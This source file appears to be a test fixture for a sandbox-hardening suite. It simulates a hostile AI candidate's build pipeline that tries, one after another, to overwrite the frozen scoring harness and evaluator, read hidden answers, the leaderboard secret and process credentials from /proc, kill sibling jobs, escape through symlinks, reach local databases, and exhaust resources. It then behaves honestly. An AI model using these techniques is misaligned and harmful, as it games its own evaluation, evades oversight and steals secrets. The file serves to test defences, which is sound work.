// A hostile candidate's data pipeline (pipeline/build.mjs of the simulated substrate, as a worker could have
// written it). In the jobs of one candidate (__TARGET__) it first tries every escape the suite knows, printing one
// line per attempt: "attack <name>: blocked (<why>)", or "attack <name>: ESCAPED <what it got>" when it worked.
// Then it builds the data like the honest pipeline, so the candidate carries on as if nothing happened.
// Placeholders (__HOME__, __SOURCE__, __TARGET__, __CANARY_B64__) are filled in by hostile.e2e.spec.ts.
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { spawn } from 'node:child_process';
import { build as honestBuild } from './build-original.mjs';

const HOME = '__HOME__';
const SOURCE = '__SOURCE__';
const TARGET = '__TARGET__';

const outArg = process.argv.indexOf('--out');
const OUT = outArg >= 0 ? path.resolve(process.argv[outArg + 1]) : null;

function report(name, fn) {
  let line;
  try {
    const got = fn();
    line = got === undefined ? 'blocked (no effect)' : `ESCAPED ${String(got).slice(0, 300)}`;
  } catch (err) {
    line = `blocked (${err.code || err.message})`;
  }
  console.log(`attack ${name}: ${line}`);
}

async function reportAsync(name, fn) {
  let line;
  try {
    const got = await fn();
    line = got === undefined ? 'blocked (no effect)' : `ESCAPED ${String(got).slice(0, 300)}`;
  } catch (err) {
    line = `blocked (${err.code || err.message})`;
  }
  console.log(`attack ${name}: ${line}`);
}

/** Every file under `dir` (its own sandbox excepted: reading that is allowed). */
function readTree(dir) {
  let out = '';
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    if (p === process.cwd()) continue;
    const st = fs.lstatSync(p);
    if (st.isDirectory()) out += readTree(p);
    else if (st.isFile()) out += `${p}: ${fs.readFileSync(p, 'utf8').slice(0, 200)}\n`;
  }
  return out;
}

const connectTo = (port) =>
  new Promise((resolve, reject) => {
    const s = net.connect(port, '127.0.0.1');
    s.once('connect', () => {
      s.destroy();
      resolve(`connected to 127.0.0.1:${port}`);
    });
    s.once('error', reject);
  });

async function attack() {
  // 1. Rewrite the frozen harness and metric in place (they are hard links to the snapshot's inodes on the host).
  report('write-frozen-metric', () =>
    fs.appendFileSync('harness/score_predictions.mjs', '\nexport const pwned = 1;\n'),
  );
  report('write-frozen-evaluator', () =>
    fs.writeFileSync('bin/evaluate.mjs', 'console.log(JSON.stringify({ overall: 1 }))\n'),
  );
  // 2. Rewrite the snapshot and its record, and the substrate source the leaderboard used to score from.
  report('write-snapshot', () => {
    for (const f of fs.readdirSync(path.join(HOME, 'snapshots')))
      fs.appendFileSync(path.join(HOME, 'snapshots', f), 'x');
    return 'snapshots written';
  });
  report('write-substrate-source', () => {
    fs.appendFileSync(path.join(SOURCE, 'harness', 'score_predictions.mjs'), '\nexport const pwned = 1;\n');
    return 'source rewritten';
  });
  // 3. Read every campaign's hidden answers, the leaderboard's secret, other sandboxes and the services' logs.
  report('read-hidden-answers', () => readTree(path.join(HOME, 'leaderboard')));
  report('read-leaderboard-secret', () => fs.readFileSync(path.join(HOME, 'leaderboard', '.secret'), 'utf8'));
  report('read-other-sandboxes', () => readTree(path.join(HOME, 'sandboxes')) || undefined);
  report('read-service-logs', () => readTree(path.join(HOME, 'logs')));
  // 4. Read credentials from the environment of every process it can see, and of its parent.
  report('read-process-environments', () => {
    const found = [];
    for (const pid of fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
      try {
        const env = fs.readFileSync(`/proc/${pid}/environ`, 'utf8');
        if (/(KEY|TOKEN|SECRET|PASSWORD|DATABASE_URL)=/.test(env)) found.push(`${pid}: ${env.split('\0').join(' ')}`);
      } catch {
        // not readable
      }
    }
    return found.length > 0 ? found.join('\n') : undefined;
  });
  report('read-parent-environ', () => {
    const env = fs.readFileSync(`/proc/${process.ppid}/environ`, 'utf8');
    return /(KEY|TOKEN|SECRET|PASSWORD|DATABASE_URL)=/.test(env) ? env : undefined;
  });
  // 5. Signal or trace other processes: every process it can see, except itself and its init.
  report('see-other-processes', () => {
    const pids = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n));
    return pids.length > 8 ? `${pids.length} processes visible` : undefined;
  });
  // Only the other candidates' jobs are aimed at (never kill(-1)): were the pid namespace missing, this must fail the
  // suite, not take the machine down with it.
  report('kill-sibling-jobs', () => {
    const killed = [];
    for (const pid of fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n) && Number(n) !== process.pid)) {
      try {
        const cmd = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8');
        if (cmd.includes('hostile-') && !cmd.includes(TARGET)) {
          process.kill(Number(pid), 'SIGKILL');
          killed.push(pid);
        }
      } catch {
        // gone or not ours to read
      }
    }
    return killed.length > 0 ? `killed ${killed.join(',')}` : undefined;
  });
  // 6. Hard links and symlinks: a frozen file linked into an editable path or an output, symlinks out of the sandbox.
  report('hardlink-frozen-into-pipeline', () => {
    fs.linkSync('harness/score_predictions.mjs', 'pipeline/score-link.mjs');
    return 'hard link in pipeline/';
  });
  report('hardlink-frozen-into-output', () => {
    fs.linkSync('harness/score_predictions.mjs', path.join(OUT, 'score-link.mjs'));
    return 'hard link in the output';
  });
  // Planted for the next stages and the verifier (allowed to exist in its own output; verification must flag them).
  report('plant-symlink-to-leaderboard', () => {
    fs.symlinkSync(path.join(HOME, 'leaderboard'), path.join(OUT, 'answers'));
    return fs.readdirSync(path.join(OUT, 'answers')).join(',');
  });
  report('plant-symlink-to-frozen', () => {
    fs.symlinkSync(path.resolve('harness/score_predictions.mjs'), path.join(OUT, 'metric.mjs'));
    fs.appendFileSync(path.join(OUT, 'metric.mjs'), 'x');
    return 'wrote through a symlink to the harness';
  });
  report('write-outside-by-dotdot', () => {
    fs.writeFileSync('../../../hostile-was-here', 'x');
    fs.writeFileSync(path.join(HOME, 'hostile-was-here'), 'x');
    return 'wrote into AEVO_HOME';
  });
  // 7. The network: the host's PostgreSQL and NATS on loopback.
  await reportAsync('connect-postgresql', () => connectTo(5432));
  await reportAsync('connect-nats', () => connectTo(4222));
  // 8. Resources: a fork bomb, a huge file, a full /tmp (all bounded by the sandbox's limits).
  await reportAsync('fork-bomb', async () => {
    const children = [];
    try {
      for (let i = 0; i < 400; i++) {
        const c = spawn('/bin/sleep', ['20'], { stdio: 'ignore' });
        const failed = await new Promise((resolve) => {
          c.once('spawn', () => resolve(false));
          c.once('error', (err) => resolve(err));
        });
        if (failed) throw failed;
        children.push(c);
      }
      return `${children.length} processes started`;
    } finally {
      for (const c of children) c.kill('SIGKILL');
    }
  });
  process.on('SIGXFSZ', () => undefined);
  report('fill-the-disk', () => {
    const chunk = Buffer.alloc(1 << 20);
    const fd = fs.openSync(path.join(OUT, 'fill.bin'), 'w');
    try {
      for (let i = 0; i < 512; i++) fs.writeSync(fd, chunk);
    } finally {
      fs.closeSync(fd);
      fs.rmSync(path.join(OUT, 'fill.bin'), { force: true });
    }
    return '512 MiB written';
  });
  report('fill-tmp', () => {
    const chunk = Buffer.alloc(1 << 20);
    try {
      for (let i = 0; i < 512; i++) fs.appendFileSync('/tmp/fill.bin', chunk);
    } finally {
      fs.rmSync('/tmp/fill.bin', { force: true });
    }
    return '512 MiB in /tmp';
  });
  // 9. Leak a stolen key through the log (as if it had found one): the log must be scrubbed before it goes anywhere.
  console.log(`stolen key: ${Buffer.from('__CANARY_B64__', 'base64').toString('utf8')}`);
}

if ((process.env.AEVO_JOB_ID ?? '').includes(TARGET)) await attack();

export const build = honestBuild;
